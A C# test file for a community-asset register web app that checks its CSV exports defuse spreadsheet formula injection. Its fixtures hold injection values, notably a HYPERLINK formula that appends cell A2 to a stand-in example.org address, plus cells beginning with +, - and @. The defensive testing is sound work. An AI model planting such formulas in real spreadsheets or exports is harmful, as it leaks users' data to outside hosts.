using RightToBid.Cases;
using RightToBid.Cases.Listing;
using RightToBid.Cases.Nominating;
using RightToBid.Law;
using RightToBid.Web.Tests.Register.OpenData;

using static RightToBid.Testing.Day;

namespace RightToBid.Web.Tests.Register;

public class opening_a_table_in_a_spreadsheet(OpenRegister council) : IClassFixture<OpenRegister>, IAsyncLifetime
{
    private const string Typed = "=HYPERLINK(\"https://example.org/?\"&A2,\"The Fox\")";

    private static readonly Asset Land = new(Typed, "@1 Mill Lane, Uley") { Kind = "+pub" };

    private static readonly CommunityGroup Group = new("-2+3 Friends", CommunityBody.WithLocalConnection(LegalForm.Charity));

    public async ValueTask InitializeAsync()
    {
        await council.Send(OpenRegister.Stroud, new ReceiveNomination(Id(1), "S-2", Land, Group, "People meet there.", On("Tuesday 12 May 2026")));
        await council.Send(OpenRegister.Stroud, new EnterInList(Id(2), "S-3", Land, On("Tuesday 5 May 2026"), NominatedBy: Group.Name));
        await council.Send(OpenRegister.Stroud, new ReceiveNomination(Id(3), "S-4", Land, Group, "People meet there.", On("Monday 2 March 2026")));
        await council.Send(OpenRegister.Stroud, new DeclineNomination(Id(3), "=1+1 is not a reason.", On("Monday 16 March 2026")));
        await council.Drain();
    }

    public ValueTask DisposeAsync()
    {
        GC.SuppressFinalize(this);
        return ValueTask.CompletedTask;
    }

    [Theory]
    [InlineData("/register.csv", $"'{Typed}")]
    [InlineData("/register/unsuccessful.csv", $"'{Typed}")]
    [InlineData("/forward-plan.csv", $"'{Typed}")]
    [InlineData($"/figures.csv?authority={OpenRegister.Stroud}", null)]
    [InlineData("/register/changes.csv?since=2026-01-01", null)]
    public async Task runs_nothing_that_somebody_typed(string address, string? shown)
    {
        List<string> cells = [.. Table.Read(await council.Text(address)).Rows.SelectMany(row => row.Values)];

        cells.ShouldNotBeEmpty();
        cells.ShouldAllBe(cell => cell.Length == 0 || !"=+-@\t".Contains(cell[0]));
        if (shown is not null)
        {
            cells.ShouldContain(shown);
        }
    }

    [Theory]
    [InlineData("register.csv")]
    [InlineData("planning-data.csv")]
    public async Task is_asked_of_the_reader_where_the_data_is_word_for_word(string file) =>
        Table.Read(await council.Text($"/data/{OpenRegister.Stroud}/{file}")).Rows.SelectMany(row => row.Values).ShouldContain(Typed);

    private static Guid Id(int number) => Guid.Parse($"0190a5f0-000f-7000-8000-{number:x12}");
}
